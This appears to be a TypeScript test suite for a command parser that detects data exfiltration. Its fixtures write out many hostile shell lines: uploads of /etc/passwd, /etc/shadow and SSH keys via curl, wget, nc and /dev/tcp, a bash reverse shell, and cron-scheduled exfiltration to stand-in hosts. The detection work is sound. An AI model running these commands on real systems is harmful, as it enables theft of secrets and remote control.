import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type CommandFacts, interestingNeedles, parseCommand, type Transfer } from './parse-command.js';

type Expected = Partial<Transfer> | undefined;

/** One line, the transfer that is expected first. */
const LINES: [string, Expected][] = [
  [
    'curl -s -T /tmp/db.tgz http://198.51.100.10/drop/db.tgz',
    {
      tool: 'curl',
      direction: 'upload',
      protocol: 'http',
      host: '198.51.100.10',
      path: '/drop/db.tgz',
      sourceFiles: ['/tmp/db.tgz'],
      evidence: '-T /tmp/db.tgz',
      confidence: 0.9,
    },
  ],
  [
    '/usr/bin/curl -sT/tmp/x https://u:p@h:8443/y',
    { direction: 'upload', protocol: 'https', host: 'h', port: 8443, sourceFiles: ['/tmp/x'] },
  ],
  [
    'curl -sS -T /tmp/x.bin ftp://198.51.100.11/incoming/a.bin',
    { direction: 'upload', protocol: 'ftp', host: '198.51.100.11' },
  ],
  ['curl -d @/tmp/part http://h/form', { direction: 'upload', sourceFiles: ['/tmp/part'], confidence: 0.9 }],
  ['curl --data=@x h', { direction: 'upload', host: 'h', confidence: 0.9 }],
  ['curl --data-bin @- h', { direction: 'upload', sourceFiles: ['-'], confidence: 0.9 }],
  [
    "curl -d 'a=b' http://h/api",
    { direction: 'upload', confidence: 0.35, evidence: '-d (inline, 3 characters)' },
  ],
  ["curl -G -d 'a=b' http://h/api", { direction: 'upload', confidence: 0.2 }],
  ['curl -d "$(base64 /etc/shadow)" http://h', { direction: 'upload', confidence: 0.7 }],
  ['curl --data-raw @x http://h', { direction: 'upload', confidence: 0.35 }],
  [
    'curl -s --limit-rate 500k -F f=@/tmp/part -F g=@/tmp/part http://198.51.100.17/multi',
    { direction: 'upload', sourceFiles: ['/tmp/part', '/tmp/part'], confidence: 0.9 },
  ],
  ['curl -XPOST http://h', { direction: 'unknown', evidence: '-X POST' }],
  ['curl -s -o /dev/null http://198.51.100.16/page/1', { direction: 'download', host: '198.51.100.16' }],
  ['curl --version', undefined],
  ['wget --post-file=/etc/passwd http://h/', { tool: 'wget', direction: 'upload', confidence: 0.9 }],
  ['wget --post-f /etc/passwd http://h/', { direction: 'upload', sourceFiles: ['/etc/passwd'] }],
  ['wget -qO- http://h/x.sh', { direction: 'download', host: 'h' }],
  ['busybox wget --post-data "$DATA" http://h', { tool: 'wget', direction: 'upload', confidence: 0.5 }],
  [
    'busybox ftpput 198.51.100.11 incoming/b.bin /tmp/x.bin',
    {
      tool: 'ftpput',
      direction: 'upload',
      protocol: 'ftp',
      host: '198.51.100.11',
      path: 'incoming/b.bin',
      sourceFiles: ['/tmp/x.bin'],
    },
  ],
  [
    'busybox tftp -p -l /tmp/x 10.0.0.1',
    { direction: 'upload', protocol: 'udp', host: '10.0.0.1', sourceFiles: ['/tmp/x'] },
  ],
  ['tftp 10.0.0.1 -c put /tmp/x', { direction: 'upload', host: '10.0.0.1' }],
  ['ftp -n h <<EOF\nuser a b\nput /tmp/x\nEOF', { direction: 'upload', host: 'h', sourceFiles: ['/tmp/x'] }],
  [
    'lftp -e "mirror -R /srv /in; bye" ftp://h',
    { direction: 'upload', protocol: 'ftp', host: 'h', sourceFiles: ['/srv'] },
  ],
  ['echo "put /tmp/x" | sftp user@h', { direction: 'upload', protocol: 'sftp', host: 'h' }],
  [
    'scp -P 22 /tmp/x user@h:/in',
    { direction: 'upload', protocol: 'scp', host: 'h', path: '/in', sourceFiles: ['/tmp/x'] },
  ],
  ['scp user@h:/in /tmp/x', { direction: 'download', host: 'h' }],
  [
    'rsync -az -e "ssh -p 2" /srv/ h:/b',
    { direction: 'upload', protocol: 'rsync', host: 'h', sourceFiles: ['/srv/'] },
  ],
  ['rsync -a /srv/ rsync://h/b', { direction: 'upload', protocol: 'rsync', host: 'h' }],
  ['rsync -a /srv/ /mnt', undefined],
  ['tar cz /srv | ssh u@h "cat > x"', { tool: 'ssh', direction: 'upload', host: 'h', confidence: 0.85 }],
  [
    'nc 10.0.0.1 9000 < /etc/passwd',
    {
      tool: 'nc',
      direction: 'upload',
      protocol: 'tcp',
      host: '10.0.0.1',
      port: 9000,
      sourceFiles: ['/etc/passwd'],
    },
  ],
  ['busybox nc -l -p 7001', { direction: 'unknown', port: 7001 }],
  ['sleep 60 | nc -l -p 7001 > /stage/x', { direction: 'download', port: 7001 }],
  ['nc -l -p 7001 > /stage/x', { direction: 'download', port: 7001 }],
  [
    'socat -u FILE:/etc/passwd TCP:h:443',
    { direction: 'upload', host: 'h', port: 443, sourceFiles: ['/etc/passwd'] },
  ],
  ['tar c / | openssl s_client -quiet -connect h:443', { direction: 'upload', host: 'h', port: 443 }],
  [
    'rclone copy /srv remote:bucket',
    { direction: 'upload', protocol: 'object-storage', path: 'remote:bucket' },
  ],
  [
    'aws --region x s3 cp /tmp/x s3://b/k',
    { direction: 'upload', path: 's3://b/k', sourceFiles: ['/tmp/x'] },
  ],
  ['aws s3 sync s3://b .', { direction: 'download' }],
  ['gsutil -m cp -r /srv gs://b', { direction: 'upload' }],
  ['gcloud storage cp x gs://b', { direction: 'upload' }],
  [
    'az storage blob upload --account-name a -f /tmp/x -c c',
    { direction: 'upload', sourceFiles: ['/tmp/x'] },
  ],
  [
    'azcopy copy /srv https://a.blob.core.windows.net/c?sig=x',
    { direction: 'upload', host: 'a.blob.core.windows.net' },
  ],
  ['s3cmd put x s3://b', { direction: 'upload', sourceFiles: ['x'] }],
  ['mc cp /tmp/x alias/bucket', { direction: 'upload' }],
  ['restic -r s3:https://h/b backup /srv', { direction: 'upload', sourceFiles: ['/srv'] }],
  ['restic -r /mnt/b backup /srv', undefined],
  ['duplicity full /srv sftp://h/x', { direction: 'upload', host: 'h' }],
  [
    `python3.11 -c "import requests; requests.post('http://h/x', data=open('/etc/passwd').read())"`,
    { tool: 'python', direction: 'upload', host: 'h', sourceFiles: ['/etc/passwd'], confidence: 0.8 },
  ],
  [
    `python -c "import urllib.request as u; u.urlopen('http://h', data=b'x')"`,
    { direction: 'upload', confidence: 0.5 },
  ],
  ['python3 -m twine upload dist/*', { tool: 'twine', direction: 'upload' }],
  [
    `node -e "fetch('http://h',{method:'POST',body:require('fs').readFileSync('/x')})"`,
    { direction: 'upload', host: 'h', confidence: 0.8 },
  ],
  [`perl -e 'use IO::Socket::INET; open F, "/x"; print $s <F>; '`, { direction: 'upload' }],
  [`php -r 'ftp_put($c, "a", "/etc/passwd");'`, { direction: 'upload' }],
  [`ruby -rnet/http -e 'Net::HTTP.post(URI("http://h/"), File.read("/x"))'`, { direction: 'upload' }],
  [
    'git push -q http://198.51.100.12:8080/loot.git HEAD:refs/heads/l1',
    {
      tool: 'git',
      direction: 'upload',
      protocol: 'git',
      host: '198.51.100.12',
      port: 8080,
      confidence: 0.9,
    },
  ],
  ['git status', undefined],
  [
    'git remote add b http://git.example/x.git',
    { direction: 'unknown', protocol: 'git', host: 'git.example' },
  ],
  ['/usr/lib/git-core/git-remote-https o https://git.example/x', { direction: 'unknown', protocol: 'git' }],
  [
    "ssh -i /keys/id root@git.example git-receive-pack 'x.git'",
    { direction: 'upload', protocol: 'git', host: 'git.example' },
  ],
  [
    'ssh git@git.example "git-upload-pack \'x.git\'"',
    { direction: 'download', protocol: 'git', host: 'git.example' },
  ],
  ['gh gist create /tmp/users.db', { direction: 'upload', protocol: 'git', sourceFiles: ['/tmp/users.db'] }],
  [
    'docker buildx build --push -t r.example/x:1 .',
    { direction: 'upload', protocol: 'registry', host: 'r.example' },
  ],
  ['docker build -t r.example/x:1 .', undefined],
  ['ctr images push r.example/x:1', { direction: 'upload', protocol: 'registry', host: 'r.example' }],
  [
    'curl -X PATCH --data-binary @/tmp/u http://r.example:5000/v2/a/b/blobs/uploads/5?_state=x',
    { direction: 'upload', protocol: 'registry', host: 'r.example', port: 5000 },
  ],
  ['curl -T /tmp/x https://h/v2/x', { direction: 'upload', protocol: 'https' }],
  ['docker push h:5000/x/loot:1', { direction: 'upload', protocol: 'registry', host: 'h', port: 5000 }],
  [
    'skopeo copy -q --dest-tls-verify=false docker-archive:/tmp/loot.tar docker://198.51.100.13:5000/x/loot:20346',
    {
      direction: 'upload',
      protocol: 'registry',
      host: '198.51.100.13',
      port: 5000,
      sourceFiles: ['docker-archive:/tmp/loot.tar'],
    },
  ],
  ['crane push loot.tar h.io/x:1', { direction: 'upload', host: 'h.io' }],
  ['oras push h.io/x:1 ./f', { direction: 'upload', host: 'h.io' }],
  ['http POST h.io/x f@/tmp/x', { direction: 'upload', host: 'h.io', confidence: 0.9 }],
  ['xh h.io/x', { direction: 'download', host: 'h.io' }],
  ['aria2c http://h/x', { direction: 'download' }],
  [
    "bash -c 'cat f > /dev/tcp/1.2.3.4/9000'",
    {
      tool: 'cat',
      direction: 'upload',
      protocol: 'tcp',
      host: '1.2.3.4',
      port: 9000,
      sourceFiles: ['f'],
      confidence: 0.9,
    },
  ],
  ['tar cz -f - -C /srv data > /dev/tcp/10.96.0.2/7004', { tool: 'tar', direction: 'upload', port: 7004 }],
  ['echo > /dev/tcp/198.51.100.16/80', { direction: 'upload', confidence: 0.3 }],
  ['bash -i >& /dev/tcp/1.2.3.4/443 0>&1', { tool: 'bash', direction: 'unknown' }],
  ['sudo -u x env A=b nice -n 5 timeout -k 1 5 curl -T f http://h', { tool: 'curl', direction: 'upload' }],
  ['find / -name id_rsa -exec curl -T {} http://h/ \\;', { direction: 'upload', inLoop: true }],
  ['ls | xargs -n1 -I{} curl -F f=@{} http://h/', { direction: 'upload', inLoop: true }],
  ['docker exec -it web sh -c "curl -T /x http://h"', { direction: 'upload' }],
  ['kubectl -n a exec -it pod -c main -- curl -T /x http://h', { direction: 'upload' }],
  ['docker run --rm -v /:/host alpine wget --post-file /host/etc/shadow http://h', { direction: 'upload' }],
  ['echo "* * * * * curl -T /x http://h/" | crontab -', { direction: 'upload' }],
  ['eval "curl -T /x http://h"', { direction: 'upload' }],
];

describe('parseCommand', () => {
  it.each(LINES)('reads %s', (line, expected) => {
    const [first] = parseCommand(line).transfers;
    if (expected === undefined) expect(first).toBeUndefined();
    else expect(first).toMatchObject(expected);
  });

  it('reads the script of an exec event, whose quotes are lost', () => {
    const facts = parseCommand(
      'exec_create: bash -c dd if=/dev/urandom of=/tmp/db.dump bs=1M count=8 2>/dev/null; tar czf /tmp/db.tgz -C /tmp db.dump; curl -s -T /tmp/db.tgz http://198.51.100.10/drop/db.tgz',
    );
    expect(facts).toMatchObject({
      transfers: [{ tool: 'curl', direction: 'upload', host: '198.51.100.10', sourceFiles: ['/tmp/db.tgz'] }],
      archives: [{ tool: 'tar', kind: 'archive', target: '/tmp/db.tgz', isPiped: false }],
      tools: ['tar', 'curl'],
      isTruncated: false,
      isLoop: false,
    });
  });

  it('reads a joined command without a shell as words', () => {
    const { transfers } = parseCommand('curl -H A: b;c -T f>g http://h', { joinedArgv: true });
    expect(transfers[0]).toMatchObject({ direction: 'upload', evidence: '-T f>g' });
  });

  it('sees a beat: an upload in a loop that sleeps', () => {
    const facts = parseCommand(
      'exec_create: bash -c for n in $(seq 15); do head -c $((20000 + RANDOM % 2000)) /dev/urandom | curl -s -o /dev/null -T - http://198.51.100.10/beat/$n; sleep $(( 1 + RANDOM % 2 )).$(( 600 + RANDOM % 400 )) ; done',
    );
    expect(facts).toMatchObject({
      isLoop: true,
      hasScheduler: true,
      transfers: [{ direction: 'upload', inLoop: true, sourceFiles: ['-'] }],
    });
  });

  it('follows a descriptor that was opened to the network', () => {
    const { transfers } = parseCommand('exec 3<>/dev/tcp/198.51.100.18/80; cat /etc/passwd >&3; exec 3>&-');
    expect(transfers).toMatchObject([
      { tool: 'exec', direction: 'unknown', host: '198.51.100.18', port: 80 },
      {
        tool: 'cat',
        direction: 'upload',
        host: '198.51.100.18',
        sourceFiles: ['/etc/passwd'],
        confidence: 0.9,
      },
    ]);
  });

  it.each<[string, Partial<CommandFacts>]>([
    ['watch -n 5 "curl -T /x http://h"', { hasScheduler: true, isLoop: true }],
    ['while true; do curl http://h; done', { hasScheduler: true, isLoop: true }],
    ['while :; do sleep 30; done', { hasScheduler: true }],
    ['for f in a b; do curl -T $f http://h; done', { hasScheduler: false, isLoop: true }],
    ['for ((;;)); do curl http://h; done', { hasScheduler: true }],
    ['systemd-run --on-calendar=hourly curl http://h', { hasScheduler: true, isLoop: false }],
    ['systemd-run curl http://h', { hasScheduler: false }],
    ['at now + 1 minute <<< "curl -T /x http://h"', { hasScheduler: true, tools: ['curl'] }],
    ['docker exec -it web bash', { isInteractive: true }],
    ['docker exec web ls', { isInteractive: false }],
    ['kubectl exec pod -it -- bash', { isInteractive: true }],
    ['kubectl run x --image=a -ti -- sh', { isInteractive: true }],
    ['docker run -i -t alpine', { isInteractive: true }],
  ])('notes the circumstances of %s', (line, expected) => {
    expect(parseCommand(line)).toMatchObject(expected);
  });

  it.each<[string, string[][]]>([
    ['tar -C / -cf /tmp/a.tar etc', [['tar', 'archive', '/tmp/a.tar']]],
    ['tar xf a.tar', []],
    ['tar cf - /data', [['tar', 'archive']]],
    ['zip -r -P pw /tmp/a.zip /srv', [['zip', 'archive', '/tmp/a.zip']]],
    ['7z a -psecret /tmp/a.7z /srv', [['7z', 'archive', '/tmp/a.7z']]],
    ['gpg -c -o /tmp/a.gpg a', [['gpg', 'encrypt', '/tmp/a.gpg']]],
    ['openssl enc -aes-256-cbc -in a -out /tmp/b', [['openssl', 'encrypt', '/tmp/b']]],
    ['tar cz /srv > /dev/shm/x', [['tar', 'archive', '/dev/shm/x']]],
    ['gzip -d x', []],
    [
      'tar cz /srv | split -b 5M - /tmp/p',
      [
        ['tar', 'archive', '|'],
        ['split', 'split', '/tmp/p'],
      ],
    ],
    ["sh -c 'tar cf - /srv' | nc drop 9", [['tar', 'archive', '|']]],
    ['split -b 5M big /tmp/part-', [['split', 'split', '/tmp/part-']]],
    ['find / | cpio -o > /tmp/x.cpio', [['cpio', 'archive', '/tmp/x.cpio']]],
    ['pg_dump -h db -U app -f /tmp/a.sql shop', [['pg_dump', 'dump', '/tmp/a.sql']]],
    ['pg_dump --schema-only shop', []],
    [
      'pg_dumpall | gzip > /tmp/a.gz',
      [
        ['pg_dumpall', 'dump', '|'],
        ['gzip', 'compress', '/tmp/a.gz'],
      ],
    ],
    ['mysqldump --all-databases --result-file=/tmp/all.sql', [['mysqldump', 'dump', '/tmp/all.sql']]],
    ['mongodump --archive=/tmp/m.gz --gzip', [['mongodump', 'dump', '/tmp/m.gz']]],
    ['redis-cli -h cache --rdb /tmp/r.rdb', [['redis-cli', 'dump', '/tmp/r.rdb']]],
    ['redis-cli -h cache get key', []],
    ['sqlite3 /data/app.db .dump > /tmp/a.sql', [['sqlite3', 'dump', '/tmp/a.sql']]],
    ["sqlite3 /data/app.db '.backup /tmp/copy.db'", [['sqlite3', 'dump']]],
    ["sqlite3 /data/app.db 'select 1'", []],
    ['etcdctl snapshot save /tmp/etcd.db', [['etcdctl', 'dump', '/tmp/etcd.db']]],
  ])('finds the archives of %s', (line, archives) => {
    const found = parseCommand(line).archives.map(({ tool, kind, target, isPiped }) => [
      ...[tool, kind, target ?? (isPiped ? '|' : '')].filter((word) => word !== ''),
    ]);
    expect(found).toEqual(archives);
  });

  it.each<[string[], Expected]>([
    [['/usr/sbin/curl', '-s', '-o', '/dev/null'], { direction: 'unknown', confidence: 0.2 }],
    [
      ['/usr/sbin/curl', '-s', '-T', '/tmp/db.tgz'],
      { direction: 'upload', confidence: 0.9, sourceFiles: ['/tmp/db.tgz'] },
    ],
    [['/usr/sbin/curl', '-s', '-d', '@/tmp/part'], { direction: 'upload', confidence: 0.9 }],
    [['/usr/sbin/git', 'push', '-q', 'http://198.51.100.12:8080/loot.git'], { direction: 'upload' }],
    [
      ['/usr/sbin/skopeo', 'copy', '-q', '--dest-tls-verify=false'],
      { direction: 'unknown', protocol: 'registry' },
    ],
    [
      ['/usr/sbin/bash', '-c', 'cat /tmp/db.tgz > /dev/tcp/198.51.100.15/9000', ''],
      { direction: 'upload', host: '198.51.100.15' },
    ],
    [
      ['/usr/sbin/bash', '-c', 'ls -la /shared /stage; tar cz -f - -C / stage | curl -s -T - ht', ''],
      { direction: 'upload', confidence: 0.9 },
    ],
    [
      ['/usr/sbin/bash', '-c', 'for n in $(seq 40); do exec 3<>/dev/tcp/198.51.100.18/80; print', ''],
      { direction: 'unknown', inLoop: true },
    ],
    [['/usr/sbin/scp', 'a', 'h:b'], { direction: 'unknown', confidence: 0.4 }],
  ])('reads an argument vector that was cut: %j', (argv, expected) => {
    const facts = parseCommand(argv, { truncated: true });
    expect(facts.transfers[0]).toMatchObject(expected ?? {});
    expect(facts.isTruncated).toBe(true);
  });

  it('does not trust a host that was cut', () => {
    expect(
      parseCommand('curl -T f http://198.51.100.1', { truncated: true }).transfers[0],
    ).not.toHaveProperty('host');
    expect(parseCommand('cat f > /dev/tcp/1.2.3.4/90', { truncated: true }).transfers[0]).not.toHaveProperty(
      'port',
    );
  });

  it('keeps inline bodies and credentials out of the result', () => {
    expect(
      JSON.stringify(parseCommand("curl -u me:hunter2 -d 'password=hunter2' https://me:hunter2@h/x")),
    ).not.toContain('hunter2');
  });

  it('names a needle of each line that yields a transfer', () => {
    const needles = interestingNeedles();
    for (const [line, expected] of LINES) {
      if (expected)
        expect(
          needles.some((needle) => line.includes(needle)),
          line,
        ).toBe(true);
    }
  });
});

function uploadConfidence(facts: CommandFacts): number {
  return Math.max(
    0,
    ...facts.transfers.filter(({ direction }) => direction === 'upload').map(({ confidence }) => confidence),
  );
}

const PIECES = [
  'curl',
  'wget',
  '-T',
  '-d',
  '@/x',
  'a=b',
  '-G',
  'http://h/x',
  '--post-file=x',
  '--data',
  '--data-raw',
  'scp',
  'f',
  'h:x',
  '|',
  ';',
  '<',
  '>',
  '/dev/tcp/h/9',
  '/dev/null',
  '&&',
  'nc',
  'h',
  '80',
  'bash -c',
  '"',
  "'",
  '$(',
  ')',
  '$((',
  '`',
  'sudo',
  'xargs',
  'echo',
  'cat',
  'git',
  'push',
  'origin',
  './x',
  'docker',
  'restic',
  '-r',
  's3:x',
  'backup',
  'lftp',
  '-e',
  'put',
  '\n',
  '&',
  'while',
  'do',
  'done',
  'for',
  '(',
  ')',
  '{',
  '}',
  'exec',
  '3<>/dev/tcp/h/9',
  '>&3',
  '<<E',
  'E',
  '<<<',
  'python',
  '-c',
  "'requests.post('",
  'open(',
  'find',
  '-exec',
  '{}',
  '\\;',
  '--',
  'eval',
  'http',
  'f@x',
  'POST',
  '#',
  '\\',
  'ssh',
  'sh',
  '-',
  'aws s3 cp',
  's3://b',
  '/etc/x',
  'kubectl exec',
  '-it',
];
const SHELLISH = fc
  .array(fc.tuple(fc.constantFrom(...PIECES), fc.constantFrom(' ', ' ', ' ', '')), { maxLength: 14 })
  .map((parts) => parts.flat().join(''));
const ANY_LINE = fc.oneof(fc.constantFrom(...LINES.map(([line]) => line)), SHELLISH);

describe('parseCommand on any input', () => {
  it('never throws and keeps confidence within bounds', () => {
    fc.assert(
      fc.property(
        fc.oneof(fc.string(), fc.string({ unit: 'binary' }), ANY_LINE),
        fc.boolean(),
        fc.boolean(),
        (line, truncated, joinedArgv) => {
          for (const { confidence } of parseCommand(line, { truncated, joinedArgv }).transfers) {
            expect(confidence).toBeGreaterThan(0);
            expect(confidence).toBeLessThanOrEqual(1);
          }
        },
      ),
      { numRuns: 3000 },
    );
    fc.assert(
      fc.property(
        fc.array(fc.string()),
        fc.boolean(),
        (argv, truncated) => void parseCommand(argv, { truncated }),
      ),
    );
  });

  it.each(LINES)('is not surer of a part than of %s', (line) => {
    const whole = uploadConfidence(parseCommand(line));
    for (let end = 0; end <= line.length; end += 1) {
      expect(
        uploadConfidence(parseCommand(line.slice(0, end), { truncated: true })),
        line.slice(0, end),
      ).toBeLessThanOrEqual(whole);
    }
  });

  it('is never surer of an upload when the line is cut', () => {
    fc.assert(
      fc.property(ANY_LINE, fc.nat(), (line, at) => {
        const part = line.slice(0, at % (line.length + 1));
        expect(uploadConfidence(parseCommand(part, { truncated: true }))).toBeLessThanOrEqual(
          uploadConfidence(parseCommand(line)),
        );
      }),
      { numRuns: 5000 },
    );
  });

  it.each([
    'curl -T x ',
    'sh -c "',
    'sh -c curl;',
    '$(curl ',
    'echo a | ',
    'exec 3>/dev/tcp/h/1;',
    '>/dev/tcp/h/1 ',
    'sudo ',
    "python -c 'open('",
    '-',
    'curl -d@',
    'xargs ',
    'x',
  ])('reads a megabyte of %j, and is never sure of a cut line', (piece) => {
    const parsed = parseCommand(piece.repeat(Math.ceil(1_000_000 / piece.length)), { truncated: true });
    expect(uploadConfidence(parsed)).toBeLessThan(1);
  });
});
